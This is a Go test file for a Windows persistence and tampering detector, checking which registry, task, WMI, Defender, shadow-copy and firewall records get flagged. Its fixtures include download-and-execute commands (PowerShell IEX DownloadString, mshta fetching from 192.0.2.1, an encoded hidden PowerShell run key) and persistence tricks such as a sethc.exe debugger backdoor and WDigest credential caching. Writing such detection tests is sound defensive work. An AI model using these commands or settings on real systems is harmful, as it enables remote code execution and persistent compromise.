package detect

import "testing"

func TestWindowsState(t *testing.T) {
	tests := []struct{ collector, line, want string }{
		{"autoruns", `{"kind":"ifeo-debugger","path":"HKLM\\x","name":"sethc.exe","command":"cmd.exe"}`, "critical accessibility-debugger"},
		{"autoruns", `{"kind":"ifeo-debugger","path":"HKLM\\x","name":"taskmgr.exe","command":"procexp.exe"}`, "medium program-debugger"},
		{"autoruns", `{"kind":"silent-exit","path":"HKLM\\x","name":"a.exe","command":"b.exe","enabled":false}`, ""},
		{"autoruns", `{"kind":"winlogon","path":"HKLM\\x","value":"Shell","command":"explorer.exe","ships":true}`, ""},
		{"autoruns", `{"kind":"winlogon","path":"HKLM\\x","value":"Userinit","command":"userinit.exe,C:\\a.exe"}`, "high logon-altered"},
		{"autoruns", `{"kind":"run","path":"HKU\\x","user":"anna","targets":[{"path":"C:\\Users\\Public\\a.exe","temporary":true,"sha256":"00"}]}`, "high autorun-temporary-folder"},
		{"autoruns", `{"kind":"run","path":"HKU\\x","command":"powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"}`, "high autorun-fetches"},
		{"autoruns", `{"kind":"run","path":"HKU\\x","command":"mshta http://192.0.2.1/a.hta"}`, "high autorun-fetches"},
		{"autoruns", `{"kind":"run","path":"HKU\\x","command":"\"C:\\Program Files\\A\\a.exe\" -e http://example.com"}`, ""},
		{"autoruns", `{"kind":"lsa","path":"HKLM\\x","targets":[{"path":"a.dll","signature":{"status":"unsigned"}}]}`, "high system-library-unsigned"},
		{"autoruns", `{"kind":"lsa","path":"HKLM\\x","targets":[{"path":"a.dll","signature":{"status":"valid"}},{"path":"b.dll","signature":{"status":"unknown"}}]}`, ""},
		{"autoruns", `{"kind":"run","path":"HKLM\\x","targets":[{"path":"a.exe","signature":{"status":"unsigned"}}]}`, ""},
		{"autoruns", `{"kind":"com-user","path":"HKU\\x","differs":true,"command":"a.dll","system":"b.dll","targets":[{"path":"a.dll","signature":{"status":"valid"}}]}`, "low com-hijack"},
		{"autoruns", `{"kind":"com-user","path":"HKU\\x","differs":true,"targets":[{"path":"a.dll","signature":{"status":"unsigned"}}]}`, "high com-hijack"},
		{"autoruns", `{"kind":"com-user","path":"HKU\\x","differs":false}`, ""},
		{"autoruns", `{"kind":"bits-job","path":"x","name":"n","command":"a.exe"}`, "medium transfer-command"},
		{"tasks", `{"path":"\\a","key":"HKLM\\x","no_sd":true,"on_disk":false}`, "critical task-hidden"},
		{"tasks", `{"path":"\\a","key":"HKLM\\x","no_index":true}`, "high task-hidden"},
		{"tasks", `{"path":"\\a","file":"C:\\a","on_disk":true,"in_registry":false,"actions":[{"kind":"exec","command":"a.exe"}]}`, "medium task-sources-differ"},
		{"tasks", `{"path":"\\a","file":"C:\\a","on_disk":true,"in_registry":true,"differs":"registry"}`, "medium task-sources-differ"},
		{"tasks", `{"path":"\\a","file":"C:\\a","on_disk":true,"in_registry":true,"in_service":true}`, ""},
		{"tasks", `{"path":"\\a","actions":[{"command":"powershell.exe","arguments":"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"}]}`, "high task-fetches"},
		{"wmi-subscriptions", `{"kind":"consumer","class":"CommandLineEventConsumer","name":"x","command":"cmd","bound":true}`, "high wmi-consumer"},
		{"wmi-subscriptions", `{"kind":"consumer","class":"ActiveScriptEventConsumer","name":"x","script":"x"}`, "medium wmi-consumer"},
		{"wmi-subscriptions", `{"kind":"consumer","class":"NTEventLogEventConsumer","name":"SCM Event Log Consumer","ships":true}`, ""},
		{"defender", `{"kind":"exclusion","type":"path","value":"C:\\"}`, "high defender-exclusion"},
		{"defender", `{"kind":"exclusion","type":"path","value":"C:\\Users\\*"}`, "high defender-exclusion"},
		{"defender", `{"kind":"exclusion","type":"path","value":"C:\\Program Files\\Exchange"}`, ""},
		{"defender", `{"kind":"exclusion","type":"extension","value":".exe"}`, "high defender-exclusion"},
		{"defender", `{"kind":"exclusion","type":"extension","value":"mdf"}`, ""},
		{"defender", `{"kind":"exclusion","type":"process","value":"powershell.exe"}`, "high defender-exclusion"},
		{"defender", `{"kind":"status","real_time":false,"mode":"Normal"}`, "medium defender-off"},
		{"defender", `{"kind":"status"}`, ""},
		{"shadow-copies", `{"kind":"summary","copies":0,"traces":2,"reasons":["a","b"]}`, "high shadow-copies-gone"},
		{"shadow-copies", `{"kind":"summary","copies":0,"reasons":["system restore is on"]}`, "medium shadow-copies-gone"},
		{"shadow-copies", `{"kind":"summary","copies":0}`, ""},
		{"shadow-copies", `{"kind":"summary","reasons":["a"]}`, ""},
		{"firewall-rules", `{"id":"1","active":true,"action":"allow","direction":"in","program":"C:\\Users\\Public\\a.exe"}`, "high firewall-opened"},
		{"firewall-rules", `{"id":"1","active":false,"action":"allow","direction":"in","program":"C:\\Users\\Public\\a.exe"}`, ""},
		{"settings", `{"path":"HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest","value":"UseLogonCredential","data":1}`, "high weakened-setting"},
		{"settings", `{"path":"HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\VSS","value":"Start","data":4}`, "medium weakened-setting"},
		{"settings", `{"path":"HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\VSS","value":"Start","data":3}`, ""},
		{"settings", `{"path":"HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp","value":"0.0.0.0/1","data":"192.0.2.1/2"}`, "medium weakened-setting"},
		{"settings", `{"path":"HKEY_LOCAL_MACHINE\\SOFTWARE\\x\\SpecialAccounts\\UserList","value":"support","data":0}`, "medium weakened-setting"},
		{"boot-security", `{"test_signing":true}`, "medium test-signing"},
		{"boot-security", `{"test_signing":false}`, ""},
	}
	for _, tt := range tests {
		var d Detector
		d.Live("live/"+tt.collector+".jsonl", []byte(tt.line+"\n"))
		if got := rules(&d); got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.line, got, tt.want)
		}
		for _, f := range d.Findings() {
			if f.Reason == "" {
				t.Errorf("%s: %+v", tt.line, f)
			}
		}
	}
}
